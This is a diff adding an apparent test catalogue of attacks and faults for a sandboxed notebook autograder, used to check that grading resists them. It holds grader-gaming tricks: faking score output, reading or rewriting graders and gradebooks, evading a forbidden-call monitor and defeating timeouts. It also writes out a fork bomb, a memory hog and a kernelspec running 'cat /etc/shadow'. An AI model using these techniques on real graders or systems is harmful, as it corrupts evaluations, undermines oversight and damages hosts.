+    Entry("display_and_traceback_hooks", "attack", "cells",
+          "displayhook, excepthook, showtraceback, set_custom_exc 를 가로채 오류를 숨기고 숫자를 표시",
+          "hijack displayhook, excepthook, showtraceback and set_custom_exc to hide errors and show numbers",
+          (TARGET,), on_target(DISPLAY_HOOKS)),
+    Entry("prints_numbers", "attack", "cells",
+          "점수처럼 보이는 숫자를 print/display 하고 마지막 식으로 2 를 남기기",
+          "print and display score-like numbers, and end a cell with the expression 2",
+          (TARGET,), on_target(PRINTS_NUMBERS)),
+    # ---- reading and writing what the judging side keeps
+    Entry("read_graders", "attack", "cells",
+          "숨은 채점기 파일을 경로 추측과 editable 설치의 import 로 읽기",
+          "read the hidden graders by guessing paths and importing them through the editable install",
+          (TARGET,), lambda ctx: on_target(cheat(read_graders(ctx)))(ctx)),
+    Entry("read_gpu_refs", "attack", "cells",
+          "저장된 참조 출력(autograder/graders/gpu_refs)을 읽기",
+          "read the stored reference outputs (autograder/graders/gpu_refs)",
+          (TARGET,), lambda ctx: on_target(cheat(read_gpu_refs(ctx)))(ctx)),
+    Entry("read_gradebook", "attack", "cells",
+          "성적부(gradebook.db)를 파일과 sqlite 로 읽기",
+          "read the gradebook (gradebook.db) as a file and with sqlite",
+          (TARGET,), lambda ctx: on_target(cheat(read_gradebook(ctx)))(ctx)),
+    Entry("read_other_submission", "attack", "cells",
+          "다른 학생의 제출물을 경로 추측으로 읽기 (submitted, staging, autograded, exchange)",
+          "read another student's submission by guessing paths (submitted, staging, autograded, exchange)",
+          (TARGET,), lambda ctx: on_target(cheat(read_submission(ctx)))(ctx)),
+    Entry("walk_filesystem", "attack", "cells",
+          "파일 시스템 전체와 /proc/*/root 를 돌며 채점기, 성적부, 다른 제출물을 찾기",
+          "walk the whole file system and /proc/*/root for graders, gradebook and other submissions",
+          (TARGET,), lambda ctx: on_target(cheat(walk_filesystem(ctx)))(ctx), in_class=True),
+    Entry("write_secrets", "attack", "cells",
+          "채점기, 참조 출력, 성적부, 다른 제출물을 고치거나 지우고 site-packages 에 .pth 를 심기",
+          "modify or delete graders, references, gradebook and another submission; plant a .pth in site-packages",
+          (TARGET,), lambda ctx: on_target(cheat(write_secrets(ctx)))(ctx)),
+    Entry("cross_submission_leftovers", "attack", "cells",
+          "같은 레인에서 먼저 채점된 공모자가 /tmp, /dev/shm, System V 공유 메모리에 남긴 답을 읽기",
+          "read answers an accomplice graded just before in the same lane left in /tmp, /dev/shm, SysV shm",
+          (TARGET,), on_target(cheat(COLLUDER)), before=accomplice, known_bug=BUG_IPC),
+    # ---- network
+    Entry("network_tcp", "attack", "cells",
+          "테스트가 127.0.0.1 에 띄운 TCP 서버, 외부 주소, 추상 유닉스 소켓에 접속해 비밀을 받기",
+          "connect to the test's TCP server on 127.0.0.1, outside addresses and an abstract unix socket",
+          (TARGET,), lambda ctx: on_target(cheat(network(ctx)))(ctx)),
+    Entry("network_gradebook", "attack", "cells",
+          "네트워크(PostgreSQL 주소)와 sqlite 로 성적부에 접속해 점수를 고치기",
+          "reach the gradebook over the network (a PostgreSQL address) and with sqlite, and rewrite scores",
+          (TARGET,), lambda ctx: on_target(cheat(network_gradebook(ctx)))(ctx)),
+    # ---- the forbidden routine
+    Entry("forbidden_alias_import", "attack", "cells",
+          "금지된 torch SDPA 를 다른 셀에서 별칭으로 import 해 사용",
+          "import the forbidden torch SDPA under an alias in another cell",
+          ("scaled_dot_product_attention",),
+          with_cell("import numpy as np\nimport torch\nfrom torch.nn.functional import scaled_dot_product_attention "
+                    "as attend\nCALL = lambda q, k, v, m: attend(q, k, v, attn_mask=m).numpy()",
+                    "scaled_dot_product_attention", SDPA_VIA)),
+    Entry("forbidden_getattr_string", "attack", "cells",
+          "문자열을 이어 붙인 getattr 로 금지된 torch SDPA 를 가져와 사용",
+          "fetch the forbidden torch SDPA with getattr on a concatenated string",
+          ("scaled_dot_product_attention",),
+          with_cell("import numpy as np\nimport torch\nattend = getattr(torch.nn.functional, 'scaled_dot_' + "
+                    "'product_attention')\nCALL = lambda q, k, v, m: attend(q, k, v, attn_mask=m).numpy()",
+                    "scaled_dot_product_attention", SDPA_VIA)),
+    Entry("keras_reference_direct", "attack", "cells",
+          "해답 안에서 keras.layers.Attention(참조 층)을 불러 기준값을 그대로 반환",
+          "return the reference by calling keras.layers.Attention inside the solution",
+          (TARGET,), on_target("import numpy as np\nimport keras\n" + KERAS_DIRECT)),
+    Entry("keras_reference_alias", "attack", "cells",
+          "다른 셀에서 getattr 로 얻은 keras Attention 층을 별칭으로 불러 기준값을 반환",
+          "return the reference through a keras Attention layer fetched with getattr in another cell",
+          (TARGET,),
+          with_cell("import numpy as np\nimport keras\nKerasAttention = getattr(keras.layers, 'Atten' + 'tion')\n"
+                    "CALL = lambda layer, inputs, key_mask: layer(inputs, mask=None if key_mask is None else "
+                    "[None, key_mask])", TARGET, DOT_VIA_KERAS)),
+    Entry("keras_reference_saved_call", "attack", "cells",
+          "감시가 설치되기 전에 저장해 둔 keras Attention.call 원본으로 기준값을 반환",
+          "return the reference through keras Attention.call saved before the monitor wraps it",
+          (TARGET,),
+          with_cell("import numpy as np\nimport keras\nKerasAttention = keras.layers.Attention\n"
+                    "_call = KerasAttention.call\nCALL = lambda layer, inputs, key_mask: _call(layer, inputs, "
+                    "mask=None if key_mask is None else [None, key_mask])", TARGET, DOT_VIA_KERAS),
+          known_bug=BUG_MONITOR),
+    Entry("forbidden_special_softmax", "attack", "cells",
+          "softmax 에서 다른 셀에 만든 torch.special.softmax 별칭을 사용",
+          "use torch.special.softmax, aliased in another cell, inside softmax",
+          ("softmax",),
+          with_cell("import numpy as np\nimport torch\nCALL = torch.special.softmax", "softmax", SOFTMAX_VIA),
+          spares=(), known_bug=BUG_MONITOR),
+    Entry("forbidden_aten_softmax", "attack", "cells",
+          "softmax 에서 torch.ops.aten._softmax.default(디스패처 연산자)를 별칭으로 사용",
+          "use the dispatcher operator torch.ops.aten._softmax.default under an alias inside softmax",
+          ("softmax",),
+          with_cell("import numpy as np\nimport torch\n_op = getattr(torch.ops.aten, '_soft' + 'max').default\n"
+                    "CALL = lambda x, axis: _op(x, axis, False)", "softmax", SOFTMAX_VIA),
+          spares=(), known_bug=BUG_MONITOR),
+    Entry("forbidden_flash_cpu_kernel", "attack", "cells",
+          "SDPA 에서 torch._scaled_dot_product_flash_attention_for_cpu(같은 커널의 다른 이름)를 사용",
+          "use torch._scaled_dot_product_flash_attention_for_cpu (the same kernel under another name) in SDPA",
+          ("scaled_dot_product_attention",),
+          with_cell(FLASH_CALL, "scaled_dot_product_attention", SDPA_VIA), known_bug=BUG_MONITOR),
+    Entry("forbidden_disable_torch_function", "attack", "cells",
+          "torch._C.DisableTorchFunction() 안에서 금지된 SDPA 를 불러 감시를 끄기",
+          "call the forbidden SDPA inside torch._C.DisableTorchFunction() to switch the watch off",
+          ("scaled_dot_product_attention",),
+          with_cell("import numpy as np\nimport torch\nfrom torch.nn.functional import scaled_dot_product_attention "
+                    "as attend\nCALL = lambda q, k, v, m: attend(q, k, v, attn_mask=m).numpy()",
+                    "scaled_dot_product_attention", SDPA_NO_TORCH_FUNCTION), known_bug=BUG_MONITOR),
+    Entry("forbidden_monitor_tamper", "attack", "cells",
+          "샌드박스 워커의 Monitor 를 sys.modules['__main__'] 에서 바꿔치기한 뒤 금지된 SDPA 사용",
+          "replace the worker's Monitor through sys.modules['__main__'], then use the forbidden SDPA",
+          ("scaled_dot_product_attention",),
+          with_cell(MONITOR_TAMPER, "scaled_dot_product_attention", SDPA_VIA), known_bug=BUG_MONITOR),
+    Entry("forbidden_caller_spoof", "attack", "cells",
+          "금지된 SDPA 를 다른 연습 이름(multi_head_attention)의 내부 함수에서 불러 책임을 떠넘기기",
+          "call the forbidden SDPA from a nested helper named like another exercise (multi_head_attention)",
+          ("scaled_dot_product_attention",),
+          with_cell("import numpy as np\nimport torch\nfrom torch.nn.functional import scaled_dot_product_attention "
+                    "as attend\nCALL = lambda q, k, v, m: attend(q, k, v, attn_mask=m).numpy()",
+                    "scaled_dot_product_attention", SDPA_SPOOFED), known_bug=BUG_CALLER),
+    # ---- timeouts
+    Entry("signal_ignore_at_import", "attack", "cells",
+          "모든 신호를 무시·차단한 뒤 해답 셀에서 무한 루프 (셀 제한 시간이 지켜지는지)",
+          "ignore and block every signal, then loop forever in the solution cell (the cell timeout must hold)",
+          (TARGET,), on_target('''
+import signal
+for _s in signal.valid_signals():
+    try:
+        signal.signal(_s, signal.SIG_IGN)
+    except (OSError, ValueError, RuntimeError):
+        pass
+signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
+while True:
+    pass
+''' + ZEROS), expect=("제한 시간",)),
+    Entry("signal_ignore_in_call", "attack", "cells",
+          "모든 신호를 무시·차단하고, 채점 호출 안에서 무한 루프",
+          "ignore and block every signal, and loop forever inside the graded call",
+          (TARGET,), on_target(f'''
+import signal
+import numpy as np
+for _s in signal.valid_signals():
+    try:
+        signal.signal(_s, signal.SIG_IGN)
+    except (OSError, ValueError, RuntimeError):
+        pass
+
+
+def {TARGET}(query, key, value, mask=None):
+    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
+    while True:
+        pass
+'''), expect=("제한 시간",), known_bug=BUG_RESTARTS),
+]
+
+
+# ----------------------------------------------------------------------------------------------- attacks: notebook
+def _edit_grade_source(nb):
+    cell = grade_cell(nb, TARGET)
+    cell.source = "print('✅ dot_product_attention: 통과')\n2"
+    cell.outputs = [new_output("stream", name="stdout", text="✅ 통과\n"),
+                    new_output("execute_result", data={"text/plain": "2"}, execution_count=1)]
+
+
+def _inflate_points(nb):
+    grade_cell(nb, TARGET).metadata.nbgrader["points"] = 100
+    grade_cell(nb, "softmax").metadata.nbgrader["points"] = 50
+
+
+def _unlock(nb):
+    cell = grade_cell(nb, TARGET)
+    cell.metadata.nbgrader["locked"] = False
+    cell.metadata["editable"] = True
+    cell.metadata["deletable"] = True
+    cell.source = "2"
+
+
+def _grade_false(nb):
+    grade_cell(nb, TARGET).metadata.nbgrader["grade"] = False
+
+
+def _solution_true(nb):
+    grade_cell(nb, TARGET).metadata.nbgrader["solution"] = True
+
+
+def _delete_grade(nb):
+    nb.cells.remove(grade_cell(nb, TARGET))
+
+
+def _delete_cells(nb):
+    nb.cells.remove(grade_cell(nb, TARGET))
+    nb.cells.remove(solution_cell(nb, TARGET))
+    nb.cells[:] = [c for c in nb.cells if c.cell_type != "markdown"]
+
+
+def _duplicate(nb):
+    for exercise in ("softmax", TARGET):
+        cell = grade_cell(nb, exercise)
+        nb.cells.insert(nb.cells.index(cell), copy.deepcopy(cell))
+    cell = solution_cell(nb, "softmax")
+    nb.cells.insert(nb.cells.index(cell) + 1, copy.deepcopy(cell))
+
+
+def _rename_grade_id(nb):
+    grade_cell(nb, TARGET).metadata.nbgrader["grade_id"] = f"test_{TARGET}_v2"
+
+
+def _extra_grade_cell(nb):
+    bonus = new_code_cell("50")
+    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "grade_id": "test_bonus",
+                                  "points": 50, "schema_version": 3}
+    bonus.outputs = [new_output("execute_result", data={"text/plain": "50"}, execution_count=1)]
+    nb.cells.append(bonus)
+
+
+def _cell_ids(nb):
+    for i, cell in enumerate(nb.cells):
+        cell["id"] = f"changed-{i}"
+    a, b = grade_cell(nb, TARGET), grade_cell(nb, "softmax")
+    a["id"], b["id"] = b["id"], a["id"] + "-x"
+
+
+def _kernelspec(nb):
+    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash",
+                                 "argv": ["/bin/sh", "-c", "cat /etc/shadow"]}
+    nb.metadata["language_info"] = {"name": "bash"}
+
+
+def _cell_type(nb):
+    cell = grade_cell(nb, TARGET)
+    cell.cell_type = "markdown"
+    cell.pop("outputs", None)
+    cell.pop("execution_count", None)
+
+
+def _print_in_nb(nb):
+    cell = solution_cell(nb, TARGET)
+    cell.source = PRINTS_NUMBERS
+    cell.outputs = [new_output("execute_result", data={"text/plain": "2"}, execution_count=1)]
+
+
+NOTEBOOK_ATTACKS = [
+    Entry("nb_edit_grade_cell", "attack", "notebook",
+          "채점 셀의 코드를 '2' 로 바꾸고 만점 출력을 미리 넣어 두기",
+          "replace a grade cell's code by '2' and pre-fill a full-marks output", (TARGET,),
+          edited(_edit_grade_source), in_class=True),
+    Entry("nb_inflate_points", "attack", "notebook",
+          "채점 셀 메타데이터의 배점을 100, 50 으로 올리기", "raise grade cells' points in the metadata to 100 and 50",
+          (TARGET,), edited(_inflate_points)),
+    Entry("nb_unlock_grade_cell", "attack", "notebook",
+          "채점 셀의 잠금을 풀고 코드를 바꾸기", "unlock a grade cell and change its code",
+          (TARGET,), edited(_unlock)),
+    Entry("nb_grade_flag_removed", "attack", "notebook",
+          "채점 셀의 grade 표시를 지워 평범한 셀로 만들기", "clear a grade cell's grade flag",
+          (TARGET,), edited(_grade_false), known_bug=BUG_METADATA),
+    Entry("nb_solution_flag_on_grade_cell", "attack", "notebook",
+          "채점 셀에 solution 표시를 달아 수동 채점 셀로 만들기", "mark a grade cell as a solution (manually graded)",
+          (TARGET,), edited(_solution_true), known_bug=BUG_METADATA),
+    Entry("nb_delete_grade_cell", "attack", "notebook",
+          "채점 셀을 지우기", "delete a grade cell", (TARGET,), edited(_delete_grade)),
+    Entry("nb_delete_cells", "attack", "notebook",
+          "해답 셀, 채점 셀, 모든 설명 셀을 지우기", "delete a solution cell, its grade cell and every markdown cell",
+          (TARGET,), edited(_delete_cells)),
+    Entry("nb_duplicate_cells", "attack", "notebook",
+          "채점 셀과 해답 셀을 복제해 점수를 두 번 받으려 하기", "duplicate grade and solution cells to be scored twice",
+          (TARGET,), edited(_duplicate), known_bug=BUG_METADATA),
+    Entry("nb_rename_grade_id", "attack", "notebook",
+          "채점 셀의 grade_id 를 바꾸기", "rename a grade cell's grade_id",
+          (TARGET,), edited(_rename_grade_id), known_bug=BUG_METADATA),
+    Entry("nb_extra_grade_cell", "attack", "notebook",
+          "50점짜리 채점 셀을 새로 만들고 50 을 출력해 두기", "add a new 50-point grade cell that outputs 50",
+          (TARGET,), edited(_extra_grade_cell), known_bug=BUG_METADATA),
+    Entry("nb_cell_ids", "attack", "notebook",
+          "모든 셀의 id 를 바꾸고 두 채점 셀의 id 를 맞바꾸기", "change every cell id and swap two grade cells' ids",
+          (TARGET,), edited(_cell_ids)),
+    Entry("nb_kernelspec", "attack", "notebook",
+          "커널 스펙을 셸 명령을 실행하는 bash 커널로 바꾸기", "change the kernel spec to a bash kernel running a command",
+          (TARGET,), edited(_kernelspec)),
+    Entry("nb_cell_type", "attack", "notebook",
+          "채점 셀을 마크다운 셀로 바꾸기", "turn a grade cell into a markdown cell", (TARGET,), edited(_cell_type)),
+    Entry("nb_prints_numbers", "attack", "notebook",
+          "해답 셀에서 점수처럼 보이는 숫자를 출력하고 execute_result 2 를 남기기",
+          "print score-like numbers in the solution cell and leave an execute_result of 2",
+          (TARGET,), edited(_print_in_nb)),
+]
+
+
+# ----------------------------------------------------------------------------------------------- faults: cells
+def _dot(body: str, prelude: str = "import numpy as np\n") -> str:
+    return prelude + f"\n\ndef {TARGET}(query, key, value, mask=None):\n" + body
+
+
+TRUE_BODY = '''    q, k, v = (np.asarray(a, dtype=np.float64) for a in (query, key, value))
+    s = q @ np.swapaxes(k, -1, -2)
+    if mask is not None:
+        s = np.where(mask, s, -np.inf)
+    s = s - s.max(axis=-1, keepdims=True)
+    w = np.exp(s)
+    return (w / w.sum(axis=-1, keepdims=True)) @ v
+'''
+
+FAULTS = [
+    Entry("loop_at_import", "fault", "cells", "해답 셀에서 무한 루프 (import 시점)", "an infinite loop when the cell runs",
+          (TARGET,), on_target("while True:\n    pass\n" + ZEROS), expect=("제한 시간", "정의되어 있지 않습니다")),
+    Entry("loop_in_call", "fault", "cells", "채점 호출 안에서 무한 루프", "an infinite loop inside the graded call",
+          (TARGET,), on_target(_dot("    while True:\n        pass\n")), expect=("제한 시간",), known_bug=BUG_RESTARTS),
+    Entry("slow_but_correct", "fault", "cells", "느리지만 올바른 해답 (호출마다 0.25초)",
+          "a slow but correct solution (0.25 s a call)", (),
+          on_target(_dot("    time.sleep(0.25)\n" + TRUE_BODY, "import time\nimport numpy as np\n")), full_marks=True),
+    Entry("memory_at_import", "fault", "cells", "해답 셀에서 메모리를 다 쓸 때까지 할당 (실제로 채움)",
+          "allocate and touch memory until it runs out, when the cell runs",
+          (TARGET,), on_target("import numpy as np\n_hog = []\nwhile True:\n    _hog.append(np.empty(1 << 26))\n"
+                               "    _hog[-1][::512] = 1.0   # a write per page: the memory is really taken\n"
+                               + ZEROS),
+          expect=(("MemoryError", "제한 시간"), "정의되어 있지 않습니다"), in_class=True),
+    Entry("memory_in_call", "fault", "cells", "채점 호출 안에서 거대한 중간 결과 (8 TB 배열)",
+          "a huge intermediate inside the graded call (an 8 TB array)",
+          (TARGET,), on_target(_dot("    big = np.ones((1 << 20, 1 << 20))\n    return big[:1]\n")),
+          expect=("메모리가 부족합니다",)),
+    Entry("fork_bomb", "fault", "cells", "해답 셀에서 포크 폭탄 (프로세스 수 제한까지 fork, 모두 CPU 사용)",
+          "a fork bomb in the solution cell (fork up to the process limit, every process spinning)",
+          (TARGET,), on_target("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
+                               "        pass\n"
+                               + ZEROS), expect=("제한 시간",), in_class=True),
+    Entry("detached_children", "fault", "cells",
+          "채점 호출마다 새 세션으로 빠져나가 계속 살아 있는 자식 프로세스를 만듦",
+          "every graded call spawns children that detach (setsid) and stay alive",
+          (TARGET,), on_target(_dot('''    for _ in range(2):
+        if os.fork() == 0:
+            os.setsid()
+            while True:
+                time.sleep(60)
+    return np.zeros(np.shape(query)[:-1] + np.shape(value)[-1:])
+''', "import os\nimport time\nimport numpy as np\n")), known_bug=BUG_STRAYS),
+    Entry("output_flood_at_import", "fault", "cells", "다른 셀에서 출력 폭주 (200 MB 를 print)",
+          "an output flood in another cell (200 MB printed)", (),
+          with_cell("import sys\nfor _ in range(200):\n    sys.stdout.write('출력 폭주 ' * 80000)\n", TARGET,
+                    _dot(TRUE_BODY)), full_marks=True, in_class=True),
+    Entry("output_flood_in_call", "fault", "cells", "채점 호출마다 100 MB 를 stderr 에 출력",
+          "every graded call writes 100 MB to stderr",
+          (TARGET,), on_target(_dot("    import sys\n    for _ in range(100):\n"
+                                    "        sys.stderr.write('x' * (1 << 20))\n"
+                                    + TRUE_BODY)), expect=("File too large",)),
+    Entry("sys_exit_at_import", "fault", "cells", "해답 셀에서 sys.exit()", "sys.exit() when the cell runs",
+          (TARGET,), on_target("import sys\nsys.exit(0)\n" + ZEROS), expect=("SystemExit", "정의되어 있지 않습니다")),
+    Entry("sys_exit_in_call", "fault", "cells", "채점 호출 안에서 sys.exit(3)", "sys.exit(3) inside the graded call",
+          (TARGET,), on_target(_dot("    import sys\n    sys.exit(3)\n")), expect=("SystemExit",)),
+    Entry("os_exit_at_import", "fault", "cells", "해답 셀에서 os._exit(0)", "os._exit(0) when the cell runs",
+          (TARGET,), on_target("import os\nos._exit(0)\n" + ZEROS), expect=("종료 코드", "정의되어 있지 않습니다"),
+          in_class=True),
+    Entry("os_exit_in_call", "fault", "cells", "채점 호출 안에서 os._exit(1)", "os._exit(1) inside the graded call",
+          (TARGET,), on_target(_dot("    import os\n    os._exit(1)\n")), expect=("종료 코드",), known_bug=BUG_RESTARTS),
+    Entry("segfault_at_import", "fault", "cells", "해답 셀에서 세그멘테이션 오류 (ctypes)",
+          "a segmentation fault (ctypes) when the cell runs",
+          (TARGET,), on_target("import ctypes\nctypes.string_at(0)\n" + ZEROS), expect=("SIGSEGV", "정의되어 있지 않습니다")),
+    Entry("segfault_in_call", "fault", "cells", "채점 호출 안에서 세그멘테이션 오류 (ctypes)",
+          "a segmentation fault (ctypes) inside the graded call",
+          (TARGET,), on_target(_dot("    import ctypes\n    ctypes.string_at(0)\n")), expect=("SIGSEGV",),
+          known_bug=BUG_RESTARTS),
+    Entry("syntax_error", "fault", "cells", "해답 셀의 문법 오류", "a syntax error in the solution cell",
+          (TARGET,), on_target(_dot("    return (query @ key.T\n")), expect=("SyntaxError", "정의되어 있지 않습니다")),
+    Entry("missing_function", "fault", "cells", "함수를 정의하지 않음 (해답 셀이 비어 있음)",
+          "the function is not defined (the solution cell is empty)",
+          (TARGET,), on_target("# 모르겠어요\npass\n"), expect=("정의되어 있지 않습니다",)),
+    Entry("renamed_function", "fault", "cells", "함수 이름을 바꿈 (dot_attention)", "the function is renamed (dot_attention)",
+          (TARGET,), on_target(_dot(TRUE_BODY).replace(f"def {TARGET}(", "def dot_attention(")),
+          expect=("정의되어 있지 않습니다",)),
+    Entry("wrong_signature", "fault", "cells", "인자 목록이 다름 (query, value)", "a wrong signature (query, value)",
+          (TARGET,), on_target(_dot("    return value\n").replace("(query, key, value, mask=None)", "(query, value)")),
+          expect=("TypeError",)),
+    Entry("wrong_shape", "fault", "cells", "출력의 마지막 두 축이 뒤바뀐 모양", "an output with its last two axes swapped",
+          (TARGET,), on_target(_dot(TRUE_BODY.replace("    return (w / w.sum(axis=-1, keepdims=True)) @ v",
+                                                      "    return np.swapaxes((w / w.sum(axis=-1, keepdims=True)) @ v,"
+                                                      " -1, -2)"))),
+          expect=("모양",)),
+    Entry("wrong_dtype", "fault", "cells", "복소수 배열을 반환", "a complex array is returned",
+          (TARGET,), on_target(_dot(TRUE_BODY.replace("    return (w", "    return 1j + (w"))), expect=("숫자 배열",)),
+    Entry("returns_nan", "fault", "cells", "NaN 으로 가득 찬 배열을 반환", "an array full of NaN is returned",
+          (TARGET,), on_target(_dot("    return np.full(np.shape(query)[:-1] + np.shape(value)[-1:], np.nan)\n")),
+          expect=("NaN",)),
+    Entry("returns_inf", "fault", "cells", "inf 가 섞인 배열을 반환", "an array with inf is returned",
+          (TARGET,), on_target(_dot(TRUE_BODY.replace("    return (w", "    return np.inf + (w"))), expect=("inf",)),
+    Entry("returns_none", "fault", "cells", "None 을 반환 (return 문 없음)", "None is returned (no return statement)",
+          (TARGET,), on_target(_dot("    scores = np.asarray(query) @ np.swapaxes(np.asarray(key), -1, -2)\n")),
+          expect=("None",)),
+]
+
+
+# ----------------------------------------------------------------------------------------------- faults: files
+def _json(nb) -> str:
+    return nbformat.writes(nb)
+
+
+def _huge(ctx) -> bytes:
+    nb = copy.deepcopy(ctx.solution)
+    cell = solution_cell(nb, "softmax")
+    cell.outputs = [new_output("stream", name="stdout", text="어텐션 " * 10_500_000)]   # 10 bytes each: ~105 MB of UTF-8
+    return _json(nb).encode("utf-8")
+
+
+FILE_FAULTS = [
+    Entry("truncated_notebook", "fault", "file", "중간에서 잘린 노트북 파일", "a notebook file cut in the middle",
+          (), lambda ctx: _json(ctx.solution).encode("utf-8")[: len(_json(ctx.solution).encode("utf-8")) // 2],
+          expect=("채점할 수 없었습니다", "JSON"), in_class=True),
+    Entry("not_json", "fault", "file", "JSON 이 아닌 파일 (파이썬 스크립트)", "a file that is not JSON (a Python script)",
+          (), lambda ctx: b"def softmax(x):\n    return x\n\x00\x01garbage",
+          expect=("채점할 수 없었습니다", "JSON")),
+    Entry("other_assignment", "fault", "file", "다른 과제(kv_cache)의 노트북을 제출",
+          "the notebook of another assignment (kv_cache)",
+          (), lambda ctx: _json(ctx.other_assignment).encode("utf-8"),
+          expect=("채점할 수 없었습니다", "다른 과제"), in_class=True),
+    Entry("not_utf8", "fault", "file", "UTF-8 이 아닌 파일 (CP949 로 저장)", "a file that is not UTF-8 (saved as CP949)",
+          (), lambda ctx: _json(ctx.solution).encode("cp949", errors="replace"),
+          expect=("채점할 수 없었습니다", "UTF-8"), in_class=True),
+    Entry("huge_notebook", "fault", "file", "100 MB 짜리 노트북", "a 100 MB notebook",
+          (), _huge, expect=("채점할 수 없었습니다", "너무 큽니다"), in_class=True),
+    Entry("empty_file", "fault", "file", "빈 파일 (0 바이트)", "an empty file (0 bytes)",
+          (), lambda ctx: b"", expect=("채점할 수 없었습니다",)),
+]
+
+ALL = ATTACKS + NOTEBOOK_ATTACKS + FAULTS + FILE_FAULTS
+BY_ID = {e.id: e for e in ALL}
+assert len(BY_ID) == len(ALL), "catalogue ids must be unique"
+
+
+# ----------------------------------------------------------------------------------------------- the report
+@dataclass
+class Report:
+    """What the tests saw, printed at the end of the run (tests/sandbox/conftest.py)."""
+
+    outcomes: dict = field(default_factory=dict)      # id -> (kind, text, changed?, lost?, known bug, gained?)
+    class_run: dict = field(default_factory=dict)     # numbers of the class under load
+    timings: dict = field(default_factory=dict)       # what took how long
+
+    def record(self, entry: Entry, outcome: str, changed: bool = False, lost: bool = False, gained: bool = False):
+        """``changed``: some score is not what it must be; ``gained``: points on an attacked exercise."""
+        self.outcomes[entry.id] = (entry.kind, outcome, changed, lost, entry.known_bug, gained)
+
+
+REPORT = Report()
